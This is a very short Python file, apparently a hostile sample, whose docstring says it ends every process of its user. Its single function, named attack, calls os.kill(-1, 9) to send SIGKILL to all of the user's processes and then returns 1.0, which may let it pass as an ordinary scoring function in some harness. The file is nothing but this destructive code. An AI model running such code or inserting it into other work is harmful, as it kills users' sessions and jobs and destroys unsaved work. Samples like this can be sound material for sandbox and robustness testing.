"""Ends every process of its user."""

import os


def attack(x):
    os.kill(-1, 9)
    return 1.0
